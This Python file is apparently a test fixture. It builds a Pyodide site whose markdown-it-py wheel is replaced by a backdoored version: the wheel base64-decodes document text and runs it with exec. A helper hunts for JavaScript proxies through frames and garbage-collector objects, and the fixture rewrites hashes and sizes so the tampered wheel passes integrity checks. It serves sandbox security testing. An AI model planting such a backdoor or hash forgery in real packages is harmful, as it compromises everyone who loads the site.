"""The built site with a dependency that was taken over: its wheel runs whatever a document tells it to."""

from __future__ import annotations

import dataclasses
from collections.abc import Mapping
from pathlib import Path

from pyodide_bundle.archive import read_zip, write_zip
from pyodide_bundle.downloads import sha256_of
from pyodide_bundle.serve import Asset

#: Opens every door between Python and JavaScript that an attacker who read Pyodide's sources would try.
DOORS = '''
def any_proxy():
    """Any JavaScript object that can be had, by whatever road."""
    import gc, sys
    for name in ("js", "pyodide_js"):
        try:
            return __import__(name)
        except ImportError:
            pass
    frame = sys._getframe()
    while frame:
        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
            if type(value).__name__ == "JsProxy" or type(value).__module__.startswith("pyodide.ffi"):
                if hasattr(value, "js_id"):
                    return value
        frame = frame.f_back
    for value in gc.get_objects():
        if hasattr(type(value), "js_id"):
            return value
    raise RuntimeError("no JavaScript object is within reach")


def js():
    """The worker's globals."""
    try:
        import js
        return js
    except ImportError:
        pass
    try:
        from _pyodide._importhook import register_js_finder
        register_js_finder()
    except Exception:
        pass
    proxy = any_proxy()
    for road in ("globalThis", "self", "_module", "globals"):
        if hasattr(proxy, road):
            proxy = getattr(proxy, road)
    return proxy
'''

_HOSTILE = (
    DOORS
    + """
import base64
from markdown_it.main import MarkdownIt as _Genuine


class MarkdownIt(_Genuine):
    def parse(self, src, env=None):
        try:
            code = base64.b64decode(src.strip().removeprefix("attack ")).decode()
            exec(code, {"js": js, "any_proxy": any_proxy})
            outcome = "done"
        except BaseException as error:
            outcome = f"{type(error).__name__} {error}"
        # Words only: the outcome is read from the text of the document.
        words = "".join(c if c.isalnum() else " " for c in outcome)
        return super().parse("outcome " + words, env)
"""
)


def taken_over(assets: Mapping[str, Asset], folder: Path) -> dict[str, Asset]:
    """Return the site with the wheel of markdown-it replaced, and its hash wherever it is expected."""
    [name] = [path for path in assets if "/markdown_it_py-" in path and path.endswith(".whl")]
    old = assets[name].path.read_bytes()
    files = read_zip(old)
    del files["markdown_it/__init__.pyc"]
    files["markdown_it/__init__.py"] = _HOSTILE.encode()
    new = write_zip(files)
    changed = {name: _written(assets[name], folder / "hostile.whl", new)}
    facts = [(sha256_of(old), sha256_of(new)), (f"size:{len(old)}", f"size:{len(new)}")]
    for path in assets:
        if not path.startswith("assets/") or not path.endswith(".js"):
            continue
        script = before = assets[path].path.read_text()
        for was, becomes in facts:
            script = script.replace(was, becomes)
        if script != before:
            changed[path] = _written(assets[path], folder / Path(path).name, script.encode())
    assert len(changed) == 3, "the page and the worker know the wheel by size and hash"
    return {**assets, **changed}


def _written(asset: Asset, path: Path, data: bytes) -> Asset:
    path.write_bytes(data)
    return dataclasses.replace(asset, path=path, digest=sha256_of(data), coded={})
